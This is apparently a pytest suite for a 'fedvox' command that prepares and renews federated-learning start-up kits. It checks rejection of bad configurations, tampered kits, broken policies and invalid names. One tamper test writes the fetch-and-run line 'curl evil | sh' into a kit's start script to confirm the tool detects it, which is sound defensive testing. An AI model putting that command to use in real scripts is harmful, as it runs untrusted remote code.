import json
import shutil
from pathlib import Path

import pytest

from fedvox.commands.main import main
from fedvox.flare.kits import prepare as kit_prepare

RUNTIMES = Path(__file__).parents[2] / "provisioning/runtimes"


@pytest.fixture
def prepare(clean_kits, tmp_path, capsys):
    """A function that runs `fedvox kit prepare` and returns exit code and error."""

    def run(config: str, *more: str, kit: Path | None = None) -> tuple[int, str]:
        path = tmp_path / "config.yml"
        path.write_text(config)
        folder = str(kit or clean_kits.kit("site-1"))
        code = main(
            ["kit", "prepare", folder, "--config", str(path), "--out", str(tmp_path / "out"), *more]
        )
        return code, capsys.readouterr().err

    return run


@pytest.fixture
def state(tmp_path):
    """A store of certificates as FLARE writes it."""
    content = {name: {"cert": "c", "pri_key": "k"} for name in ("localhost", "site-1", "site-2")}
    (tmp_path / "cert.json").write_text(
        json.dumps({"root_cert": "r", "root_pri_key": "k"} | content)
    )
    return tmp_path


K8S = (RUNTIMES / "k8s.yml").read_text()


@pytest.mark.parametrize(
    ("config", "more", "words"),
    [
        ("runtime: docker\n", [], "mounts the Docker socket"),
        ("runtime: docker\n", [], "provisioning/runtimes/compose.yml"),
        ("runtime: nomad\n", [], "'runtime' must be k8s or slurm, not 'nomad'"),
        ("- a list\n", [], "'runtime' must be k8s or slurm"),
        ("runtime: [\n", [], "missing or no YAML"),
        (K8S + "storage: 1\n", [], "nvflare deploy prepare: Unknown keys in k8s config"),
        ("runtime: slurm\n", [], "folders with absolute paths, not 'fedvox-data'"),
        (
            "runtime: slurm\njob_launcher: {sandbox: apptainer, image: /no.sif, python_path: /p}\n",
            ["--data", "/data", "--cache", "/cache"],
            "nvflare deploy prepare: image is not an existing regular file: /no.sif",
        ),
    ],
)
def test_a_refused_configuration_is_one_line_and_leaves_nothing(
    prepare, tmp_path, config, more, words
):
    code, error = prepare(config, *more)
    assert code == 1
    assert words in error
    assert error.count("\n") == 1
    assert {path.name for path in tmp_path.iterdir()} == {"config.yml"}


def test_an_existing_folder_is_left_alone(prepare, tmp_path):
    (tmp_path / "out").mkdir()
    (tmp_path / "out/mine").touch()
    assert "out exists; remove it" in prepare(K8S)[1]
    assert (tmp_path / "out/mine").exists()


def test_a_changed_kit_is_not_prepared(prepare, copy_of, tmp_path):
    kit = copy_of("site-1")
    (kit / "startup/start.sh").write_text("curl evil | sh\n")
    assert "startup/start.sh: changed" in prepare(K8S, kit=kit)[1]
    assert not (tmp_path / "out").exists()


@pytest.fixture
def copy_of(clean_kits, tmp_path_factory):
    """A function from a participant to a copy of its kit."""

    def copied(name: str) -> Path:
        return Path(shutil.copytree(clean_kits.kit(name), tmp_path_factory.mktemp("copy") / name))

    return copied


def test_a_persons_kit_is_not_prepared(prepare, clean_kits):
    assert (
        "no start-up kit of a server or site"
        in prepare(K8S, kit=clean_kits.kit("lead@hospital-a.org"))[1]
    )


def test_a_kit_with_settings_of_its_own_for_jobs_is_not_prepared(prepare, copy_of):
    kit = copy_of("site-1")
    (kit / "local/study_runtime.yaml").write_text("format_version: 2\nstudies: {}\n")
    assert "has its own local/study_runtime.yaml" in prepare(K8S, kit=kit)[1]


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"components": None}, "local/resources.json has no list of components"),
        ({"components": {"id": "x"}}, "local/resources.json has no list of components"),
        ({"components": [{"path": "a.B"}]}, "local/resources.json: component 1 has no id; give"),
        ({"components": ["x"]}, "local/resources.json: component 1 has no id; give"),
        ({"components": [{"id": "a", "args": []}]}, "'args' of a must be a mapping"),
    ],
)
def test_a_damaged_policy_is_one_line(prepare, copy_of, tmp_path, change, words):
    kit = copy_of("site-1")
    path = kit / "local/resources.json"
    content = json.loads(path.read_text()) | change
    path.write_text(json.dumps({k: v for k, v in content.items() if v is not None}))
    code, error = prepare(K8S, kit=kit)
    assert code == 1
    assert words in error
    assert error.count("\n") == 1
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("name", ["bad name!", "Data", "-a", "a-", "a..b", "", "a" * 254, "a\nb"])
def test_a_claim_that_kubernetes_does_not_take_is_one_line(prepare, tmp_path, name):
    for option in (f"--data={name}", f"--cache={name}"):
        code, error = prepare(K8S, option)
        assert code == 1
        assert "name claims, in lower-case letters" in error
        assert error.count("\n") == 1
    assert not (tmp_path / "out").exists()


def test_a_failure_after_flares_step_leaves_nothing(prepare, tmp_path, monkeypatch):
    def lost(kit: Path, work: Path) -> None:
        policy = json.loads((work / "local/resources.json").read_text())
        policy["allow_log_streaming"] = True
        (work / "local/resources.json").write_text(json.dumps(policy))
        (work / "local/privacy.json").unlink()
        verify(kit, work)

    verify = kit_prepare._verify
    monkeypatch.setattr(kit_prepare, "_verify", lost)
    code, error = prepare(K8S)
    assert code == 1
    assert "would change its policy: allow_log_streaming, privacy.json" in error
    assert {path.name for path in tmp_path.iterdir()} == {"config.yml"}


def test_json_names_kit_runtime_and_scripts(clean_kits, tmp_path, capsys):
    arguments = ["--config", str(RUNTIMES / "k8s.yml"), "--out", str(tmp_path / "out"), "--json"]
    assert main(["kit", "prepare", str(clean_kits.kit("site-1")), *arguments]) == 0
    expected = {"kit": str(tmp_path / "out"), "runtime": "k8s", "scripts": []}
    assert json.loads(capsys.readouterr().out) == expected


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("site-9", "has no certificate of site-9; it has localhost, site-1, site-2"),
        ("root_cert", "would invalidate every kit"),
        ("root_pri_key", "would invalidate every kit"),
    ],
)
def test_what_cannot_be_renewed_is_refused(state, capsys, name, words):
    before = (state / "cert.json").read_bytes()
    assert main(["kit", "renew", name, "--state", str(state)]) == 1
    error = capsys.readouterr().err
    assert words in error
    assert error.count("\n") == 1
    assert (state / "cert.json").read_bytes() == before


def test_a_renewed_participant_leaves_the_store_and_nobody_else_does(state):
    before = json.loads((state / "cert.json").read_text())
    assert main(["kit", "renew", "site-1", "--state", str(state)]) == 0
    after = json.loads((state / "cert.json").read_text())
    assert before.pop("site-1")
    assert after == before


@pytest.mark.parametrize("content", [None, "", "[]", "{"])
def test_a_missing_or_damaged_store_is_one_line(tmp_path, capsys, content):
    if content is not None:
        (tmp_path / "cert.json").write_text(content)
    assert main(["kit", "renew", "site-1", "--state", str(tmp_path)]) == 1
    assert "missing or damaged; name the project's state folder" in capsys.readouterr().err
